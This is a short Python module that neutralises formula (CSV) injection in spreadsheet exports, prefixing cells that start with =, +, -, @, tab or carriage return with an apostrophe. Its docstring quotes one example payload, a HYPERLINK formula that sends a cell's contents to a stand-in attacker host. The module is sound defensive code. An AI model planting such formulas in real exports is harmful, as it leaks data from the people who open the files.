"""What every spreadsheet export (CSV, XLSX) writes into a cell: text people sent is
data, never a formula.

A description such as `=HYPERLINK("http://attacker.invalid/?x="&A2,"查看")` would
otherwise run when a member of staff opens the export: Excel and WPS treat a cell
starting with = + - @ (and a tab or carriage return before one of them) as a
formula, in CSV as well as XLSX. `safe_cell` prefixes such text with an
apostrophe, the usual neutraliser (OWASP "CSV injection"), and drops the control
characters XLSX cannot hold (suishoupai.text). Numbers and dates pass unchanged.
Every export calls it for every cell: the console's search exports, the
statistics and bulletins.
"""

from typing import Any

from suishoupai.text import strip_forbidden

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if not isinstance(value, str):
        return value
    text = strip_forbidden(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_row(values: list[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]
